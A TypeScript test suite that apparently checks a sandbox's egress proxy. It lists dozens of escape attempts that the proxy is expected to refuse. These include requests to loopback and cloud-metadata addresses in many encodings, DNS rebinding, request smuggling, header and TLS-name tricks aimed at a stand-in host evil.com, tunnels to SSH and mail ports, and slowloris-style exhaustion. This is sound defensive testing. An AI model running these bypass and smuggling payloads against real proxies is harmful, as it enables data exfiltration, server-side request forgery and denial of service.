/**
 * Ways around the proxy's rules, tried from inside a sandbox on the real proxy. What gets through ends at a server
 * that answers with the bait.
 */
import { type Attempt, BAIT, type Program } from '../attempt.ts';
import { node } from './words.ts';

/** Sends bytes to the proxy, and more once the tunnel is open; judges by what comes back. */
function sends(first: string, then = 'null', wanted = BAIT): Program {
  return node(`let heard = '', opened = false;
    const judge = () => {
      if (heard.includes('${wanted}')) through();
      const body = opened ? heard.slice(heard.indexOf('\\r\\n\\r\\n') + 4) : heard;
      const [, status] = /^HTTP\\/1\\.1 (\\d+)/.exec(body) ?? [];
      refused(status ?? 'closed');
    };
    const socket = require('node:net').connect(3128, '127.0.0.1');
    socket.on('data', (data) => {
      heard += data.toString('latin1');
      if (heard.includes('${wanted}')) through();
      const then = ${then};
      if (!opened && then !== null && /^HTTP\\/1\\.1 200/.test(heard)) { opened = true; socket.write(then); }
    }).on('close', judge).on('error', judge);
    socket.write(${first});
    setTimeout(judge, 4000)`);
}

/** The granted site answers; its answer must hold nothing that it should not have seen. */
function arrives(first: string, word = 'hello', then = 'null'): Program {
  return sends(first, then, word);
}

const get = (url: string, host: string, headers = '') =>
  JSON.stringify(`GET ${url} HTTP/1.1\r\nhost: ${host}\r\n${headers}connection: close\r\n\r\n`);
const tunnelTo = (authority: string) =>
  JSON.stringify(`CONNECT ${authority} HTTP/1.1\r\nhost: ${authority}\r\n\r\n`);

/** The first bytes of TLS 1.2 or 1.3 with this server name; null: with none. */
export function hello(name: string | null): string {
  return `((name) => {
    const word = (value) => Buffer.from([value >> 8, value & 255]);
    const part = (bytes) => Buffer.concat([word(bytes.length), bytes]);
    const sni = name === null ? Buffer.alloc(0)
      : Buffer.concat([word(0), part(part(Buffer.concat([Buffer.from([0]), part(Buffer.from(name))])))]);
    const versions = Buffer.concat([word(43), part(Buffer.from([2, 3, 4]))]);
    const body = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32), Buffer.from([0]), part(word(0x1301)),
      Buffer.from([1, 0]), part(Buffer.concat([sni, versions]))]);
    const handshake = Buffer.concat([Buffer.from([1, 0]), part(body)]);
    return Buffer.concat([Buffer.from([22, 3, 1]), part(handshake)]);
  })(${JSON.stringify(name)})`;
}

const plainTwin: Attempt['twin'] = () => arrives(get('http://good.com/', 'good.com'));
const tunnelTwin: Attempt['twin'] = () => arrives(tunnelTo('good.com:443'), 'tls', hello('good.com'));

function attempt(
  id: string,
  title: string,
  program: Program,
  stops: readonly string[],
  twin = plainTwin,
): Attempt {
  return onWayOut(`egress-${id}`, title, program, stops, twin);
}

/** An attempt that the rules of the way out stop. */
export function onWayOut(
  id: string,
  title: string,
  program: Program,
  stops: readonly string[],
  twin: Attempt['twin'],
): Attempt {
  return {
    id,
    group: 'egress',
    title,
    program: () => program,
    twin,
    stops,
    layers: [],
    also: 'egress',
    cordonOnly: true,
    setting: { in: 'network' },
  };
}

const asks = (url: string) => sends(get(url, new URL(url).host));
const REFUSED = ['403'];
const MALFORMED = ['400', '403', 'closed'];

const answers = (
  [
    ['rebinding', 'mixed', 'one good and one private address'],
    ['to-loopback', 'loopback', '127.0.0.1'],
    ['to-metadata', 'metadata', "a cloud's metadata service"],
    ['to-azure', 'azure', "another cloud's service at a public-looking address"],
    ['to-private', 'private', 'a private address'],
    ['to-carrier', 'carrier', 'an address between provider and customer'],
    ['to-multicast', 'multicast', 'a multicast address'],
    ['to-mapped', 'mapped', '127.0.0.1 inside an IPv6 address'],
    ['to-loopback-6', 'loopback6', '::1'],
    ['to-nat64', 'nat64', '127.0.0.1 behind NAT64'],
    ['to-6to4', 'sixtofour', '127.0.0.1 behind 6to4'],
    ['to-teredo', 'teredo', 'a Teredo address'],
    ['to-unique-local', 'unique-local', 'a private IPv6 address'],
  ] as const
).map(([id, name, what]) =>
  attempt(id, `names a host of its own that leads to ${what}`, asks(`http://${name}.good.com/`), REFUSED),
);

const literals = (
  [
    ['literal', '127.0.0.1', 'an address'],
    ['literal-decimal', '2130706433', 'an address as one decimal number'],
    ['literal-hexadecimal', '0x7f.1', 'an address in hexadecimal'],
    ['literal-octal', '0177.0.0.1', 'an address in octal'],
    ['literal-6', '[::1]', 'an IPv6 address'],
    ['literal-mapped', '[::ffff:7f00:1]', 'an IPv4 address as IPv6'],
    ['localhost', 'localhost', 'localhost'],
  ] as const
).map(([id, host, what]) =>
  attempt(id, `asks for ${what}`, sends(get(`http://${host}/`, host)), ['400', '403']),
);

export const EGRESS: readonly Attempt[] = [
  ...answers,
  ...literals,
  attempt(
    'rebinding-later',
    'changes the address of a name after it was checked',
    node(`let left = 3;
      const ask = () => {
        let heard = '';
        require('node:net').connect(3128, '127.0.0.1').on('data', (data) => { heard += data })
          .on('close', () => {
            if (heard.includes('cordon-bait')) through();
            if (--left > 0) return ask();
            refused(/^HTTP\\/1\\.1 (\\d+)/.exec(heard)?.[1] ?? 'closed');
          }).write('GET http://flips.good.com/ HTTP/1.1\\r\\nhost: flips.good.com\\r\\nconnection: close\\r\\n\\r\\n');
      };
      ask()`),
    REFUSED,
  ),
  attempt('other-site', 'asks for a site that was not granted', asks('http://evil.com/'), REFUSED),
  attempt('prefix-site', 'puts the granted name before its own', asks('http://good.com.evil.com/'), REFUSED),
  attempt('suffix-site', 'ends its own name like the granted one', asks('http://evil-good.com/'), REFUSED),
  attempt(
    'user-info',
    'writes the granted name as a user of its own host',
    sends(get('http://good.com@evil.com/', 'evil.com')),
    ['400', '403'],
  ),
  attempt('other-port', 'asks for another port of the granted site', asks('http://good.com:8080/'), REFUSED),
  attempt('plain-on-443', 'asks the port of TLS in the clear', asks('http://good.com:443/'), ['400', '403']),
  attempt(
    'mail',
    'tunnels to port 25',
    sends(tunnelTo('good.com:25'), '"EHLO x\\r\\n"'),
    REFUSED,
    tunnelTwin,
  ),
  attempt(
    'shell',
    'tunnels to port 22',
    sends(tunnelTo('good.com:22'), '"SSH-2.0-x\\r\\n"'),
    REFUSED,
    tunnelTwin,
  ),
  attempt(
    'tunnel-literal',
    'tunnels to an address',
    sends(tunnelTo('127.0.0.1:443'), hello('good.com')),
    REFUSED,
    tunnelTwin,
  ),
  attempt(
    'host-header',
    'names another host in `Host` than in the URL',
    sends(get('http://good.com/', 'evil.com')),
    MALFORMED,
  ),
  attempt(
    'two-host-headers',
    'sends two `Host` headers',
    sends(get('http://good.com/', 'good.com', 'host: evil.com\r\n')),
    MALFORMED,
  ),
  attempt(
    'no-host-header',
    'sends no `Host` header',
    sends(JSON.stringify('GET http://evil.com/ HTTP/1.0\r\n\r\n')),
    MALFORMED,
  ),
  attempt(
    'server-name',
    'opens a tunnel to the granted site and asks TLS for another',
    sends(tunnelTo('good.com:443'), hello('evil.com')),
    ['closed'],
    tunnelTwin,
  ),
  attempt(
    'no-server-name',
    'hides in TLS which site it wants',
    sends(tunnelTo('good.com:443'), hello(null)),
    ['closed'],
    tunnelTwin,
  ),
  attempt(
    'no-tls',
    'sends something else than TLS through a tunnel',
    sends(tunnelTo('good.com:443'), '"GET /smuggled HTTP/1.1\\r\\nhost: evil.com\\r\\n\\r\\n"'),
    ['closed', '400'],
    tunnelTwin,
  ),
  attempt(
    'tunnel-in-tunnel',
    'asks for another site inside a tunnel for plain HTTP',
    sends(
      tunnelTo('good.com:80'),
      '"GET http://evil.com/ HTTP/1.1\\r\\nhost: evil.com\\r\\nconnection: close\\r\\n\\r\\n"',
    ),
    MALFORMED,
    () =>
      arrives(
        tunnelTo('good.com:80'),
        'hello',
        '"GET / HTTP/1.1\\r\\nhost: good.com\\r\\nconnection: close\\r\\n\\r\\n"',
      ),
  ),
  attempt(
    'smuggling-length-chunked',
    'smuggles a request: two lengths of the body, by number and in chunks',
    sends(
      JSON.stringify(
        'POST http://good.com/ HTTP/1.1\r\nhost: good.com\r\ncontent-length: 50\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: evil.com\r\n\r\n',
      ),
    ),
    [...MALFORMED, '200'],
    () => posts('content-length: 5\r\n', 'hello'),
  ),
  attempt(
    'smuggling-two-lengths',
    'smuggles a request: two different lengths',
    sends(
      JSON.stringify(
        'POST http://good.com/ HTTP/1.1\r\nhost: good.com\r\ncontent-length: 0\r\ncontent-length: 44\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: evil.com\r\n\r\n',
      ),
    ),
    MALFORMED,
    () => posts('content-length: 5\r\n', 'hello'),
  ),
  attempt(
    'smuggling-odd-chunked',
    'smuggles a request: chunks under a name that servers read differently',
    sends(
      JSON.stringify(
        'POST http://good.com/ HTTP/1.1\r\nhost: good.com\r\ntransfer-encoding: xchunked\r\ncontent-length: 4\r\n\r\n2f\r\nGET /smuggled HTTP/1.1\r\nhost: evil.com\r\n\r\n0\r\n\r\n',
      ),
    ),
    [...MALFORMED, '501'],
    () => posts('transfer-encoding: chunked\r\n', '5\r\nhello\r\n0\r\n\r\n'),
  ),
  attempt(
    'smuggling-second',
    'sends a second request, for another site, on the same connection',
    sends(
      JSON.stringify(
        'GET http://good.com/ HTTP/1.1\r\nhost: good.com\r\n\r\nGET http://evil.com/ HTTP/1.1\r\nhost: evil.com\r\nconnection: close\r\n\r\n',
      ),
    ),
    [...MALFORMED, '200'],
  ),
  attempt(
    'line-in-path',
    'puts a line break and a header into the path',
    sends(
      JSON.stringify('GET http://good.com/%0d%0ahost:%20evil.com HTTP/1.1\nx: y\r\nhost: good.com\r\n\r\n'),
    ),
    MALFORMED,
  ),
  attempt(
    'folded-header',
    'folds a header over two lines',
    sends(
      JSON.stringify(
        'GET http://good.com/ HTTP/1.1\r\nhost: good.com\r\n\thost: evil.com\r\nconnection: close\r\n\r\n',
      ),
    ),
    [...MALFORMED, '200'],
  ),
  attempt(
    'announcements',
    'has a server announce its answer without end',
    asks('http://good.com/hints-50'),
    ['502'],
    () => arrives(get('http://good.com/hints-3', 'good.com')),
  ),
  attempt(
    'websocket',
    'upgrades to a WebSocket',
    sends(
      JSON.stringify(
        'GET http://good.com/ HTTP/1.1\r\nhost: good.com\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\nsec-websocket-version: 13\r\n\r\n',
      ),
    ),
    REFUSED,
  ),
  attempt(
    'other-protocol',
    'asks the proxy for another protocol than HTTP',
    sends(get('ftp://good.com/smuggled', 'good.com')),
    MALFORMED,
  ),
  attempt(
    'origin-form',
    'asks the proxy as if it were a web server of the hub',
    sends(get('/smuggled', 'good.com')),
    MALFORMED,
  ),
  attempt(
    'slow-head',
    'sends the head of a request one byte at a time',
    node(`const started = Date.now();
      const socket = require('node:net').connect(3128, '127.0.0.1');
      socket.on('close', () => Date.now() - started > 3500 ? through() : refused('closed')).on('error', () => {}).resume();
      const text = 'GET http://good.com/ HTTP/1.1\\r\\nhost: good.com\\r\\nx: ' + 'y'.repeat(100);
      let at = 0;
      setInterval(() => { if (Date.now() - started > 4000) through(); socket.write(text[at++ % text.length]); }, 100)`),
    ['closed'],
  ),
  attempt(
    'slow-tunnel',
    'opens a tunnel and says nothing in it',
    node(`const started = Date.now();
      const socket = require('node:net').connect(3128, '127.0.0.1');
      socket.on('close', () => refused('closed')).on('error', () => {}).resume();
      socket.write(${tunnelTo('good.com:443')});
      setTimeout(() => through(), 4000)`),
    ['closed'],
    tunnelTwin,
  ),
  attempt(
    'slow-body',
    'keeps a connection by a body that never ends',
    node(`const socket = require('node:net').connect(3128, '127.0.0.1');
      socket.on('close', () => refused('closed')).on('error', () => {}).on('data', (data) => {
        const status = /^HTTP\\/1\\.1 (\\d+)/.exec(String(data)); if (status) refused(status[1]); });
      socket.write('POST http://good.com/ HTTP/1.1\\r\\nhost: good.com\\r\\ncontent-length: 1000\\r\\n\\r\\n');
      setInterval(() => socket.write('x'), 200);
      setTimeout(() => through(), 4500)`),
    ['closed', '408', '403', '502', '504'],
  ),
  attempt(
    'huge-head',
    'sends a header of a megabyte',
    sends(
      `'GET http://good.com/ HTTP/1.1\\r\\nhost: good.com\\r\\nx: ' + 'smuggled'.repeat(1 << 17) + '\\r\\n\\r\\n'`,
    ),
    ['431', 'closed', 'ECONNRESET', 'EPIPE'],
  ),
  attempt(
    'upload-declared',
    'uploads more than its budget, and says so',
    sends(
      `'POST http://good.com/ HTTP/1.1\\r\\nhost: good.com\\r\\ncontent-length: 262144\\r\\n\\r\\n' + 'x'.repeat(262144)`,
    ),
    ['403', '413', 'closed', 'ECONNRESET', 'EPIPE'],
    () => posts('content-length: 5\r\n', 'hello'),
  ),
  attempt(
    'upload-chunked',
    'uploads more than its budget in chunks',
    sends(
      `'POST http://good.com/ HTTP/1.1\\r\\nhost: good.com\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n' + ('1000\\r\\n' + 'x'.repeat(4096) + '\\r\\n').repeat(64) + '0\\r\\n\\r\\n'`,
    ),
    ['403', '413', '502', 'closed', 'ECONNRESET', 'EPIPE'],
    () => posts('transfer-encoding: chunked\r\n', '5\r\nhello\r\n0\r\n\r\n'),
  ),
  attempt(
    'upload-tunnel',
    'uploads more than its budget through a tunnel',
    sends(tunnelTo('good.com:443'), `Buffer.concat([${hello('good.com')}, Buffer.alloc(262144, 'x')])`),
    ['closed', 'ECONNRESET', 'EPIPE'],
    tunnelTwin,
  ),
  {
    ...attempt(
      'connections',
      'holds all connections of the proxy open',
      node(`let open = 0, closed = 0;
        for (let n = 0; n < 120; n++) require('node:net').connect(3128, '127.0.0.1')
          .on('connect', function () { open++; this.write('GET http://good.com/ HTTP/1.1\\r\\n'); })
          .on('error', () => {}).on('close', () => { closed++; }).resume();
        setTimeout(() => open - closed >= 120 ? through() : refused('closed'), 2500)`),
      ['closed'],
    ),
    exhausts: true,
  },
  attempt(
    'around',
    'goes around the proxy',
    // Every address leads to the hub: what counts is who answers.
    node(`let heard = '';
      const socket = require('node:net').connect(80, '192.0.2.1', () => socket.write(${get('/', 'evil.com')}));
      socket.on('data', (data) => { heard += data; if (heard.includes('${BAIT}')) through(); })
        .on('error', (error) => refused(error.code))
        .on('close', () => refused(/^HTTP\\/1\\.1 (\\d+)/.exec(heard)?.[1] ?? 'closed'));
      setTimeout(() => refused('silence'), 2000)`),
    ['ENETUNREACH', 'ECONNREFUSED', '403'],
  ),
];

function posts(header: string, body: string): Program {
  return arrives(
    JSON.stringify(
      `POST http://good.com/ HTTP/1.1\r\nhost: good.com\r\n${header}connection: close\r\n\r\n${body}`,
    ),
  );
}
